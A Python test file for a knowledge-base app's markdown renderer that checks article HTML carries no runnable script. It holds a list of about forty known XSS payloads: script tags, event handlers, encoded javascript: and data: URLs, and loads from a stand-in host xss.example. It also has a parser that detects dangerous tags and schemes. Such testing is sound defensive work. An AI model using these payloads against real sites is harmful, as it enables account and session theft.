"""Whatever an author writes, an article's HTML carries no script: no script or style
element, no event handler, no link or image to a javascript:, vbscript: or data: URL,
no embedded document. Checked against known XSS payloads (OWASP's filter evasion cheat
sheet, PortSwigger's XSS cheat sheet), through the API (preview and save) and by parsing
the HTML that comes out, not by searching it for strings."""

from __future__ import annotations

import html
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from quartermaster.core.markdown import render
from tests.catalog.conftest import ok
from tests.knowledge.conftest import Kb

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](http://example.com/a.png)',
    '[x](http://example.com/" onmouseover="alert(1))',
    "<javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    "<style>@import 'http://xss.example/x.css';</style>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "[a](<javascript:alert(1)>)",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "**[a](javascript:alert(1))**",
    "> [quoted](javascript:alert(1))",
    "| h |\n|---|\n| [c](javascript:alert(1)) |",
    "`<script>alert(1)</script>` and <script>alert(2)</script>",
    "<details open ontoggle=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
]

SAFE_SCHEMES = {"", "http", "https", "mailto"}
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "svg", "math", "form", "base", "meta",
    "link", "body", "details", "frame", "frameset", "template", "noscript",
}  # fmt: skip


class _Dangers(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "formaction", "srcdoc"):
                self.found.append(f"{tag}[{name}]")
            if name in ("href", "src", "action", "data", "xlink:href") and value is not None:
                # What a browser would do: entities decoded, control characters and
                # whitespace dropped, scheme compared case-insensitively.
                url = "".join(ch for ch in html.unescape(value) if ch > " ")
                if urlsplit(url).scheme.lower() not in SAFE_SCHEMES:
                    self.found.append(f"{tag}[{name}={value}]")


def dangers(markup: str) -> list[str]:
    """What in ``markup`` a browser could run (an empty list when nothing)."""
    parser = _Dangers()
    parser.feed(markup)
    parser.close()
    return parser.found


def test_the_checker_sees_what_it_is_meant_to_see() -> None:
    """Not vacuous: each kind of danger is recognised in HTML that has it."""
    assert dangers('<p onclick="x">a</p>') == ["p[onclick]"]
    assert dangers("<script>x</script>") == ["<script>"]
    assert dangers('<a href=" JaVa&#115;cript:x">a</a>') != []
    assert dangers('<img src="data:image/png;base64,AAAA">') != []
    assert dangers('<a href="https://example.com/a?b=c" rel="noopener">a</a>') == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_renderer_leaves_nothing_that_runs(payload: str) -> None:
    assert dangers(render(payload)) == []
    assert dangers(render(f"Intro\n\n{payload}\n\n*after*")) == []


async def test_every_payload_is_harmless_through_the_api(kb: Kb) -> None:
    body = "\n\n".join(PAYLOADS)
    article = await kb.article(body=body)
    assert dangers(article["body_html"]) == []
    preview = ok(await kb.post("/articles/preview", {"body": body}))
    assert preview["body_html"] == article["body_html"]
    # Published on the help pages, the same HTML is served.
    published = await kb.edited(article, status="published", visibility="public")
    page = ok(await kb.public(kb.account.tenant_slug, f"/articles/{published['slug']}"))
    assert dangers(page["body_html"]) == []


def test_ordinary_markdown_survives() -> None:
    markup = render(
        "# Title\n\n- [docs](https://example.com/docs) and <mailto:help@example.com>\n"
        "- ![logo](/img/logo.png)\n\n| a | b |\n|---|---|\n| 1 | ~~2~~ |\n\n```\ncode\n```"
    )
    assert '<a href="https://example.com/docs" rel="noopener noreferrer">docs</a>' in markup
    assert 'href="mailto:help@example.com"' in markup
    assert '<img src="/img/logo.png" alt="logo">' in markup
    assert "<table>" in markup
    assert "<s>2</s>" in markup
    assert "<pre><code>code\n</code></pre>" in markup
    assert dangers(markup) == []
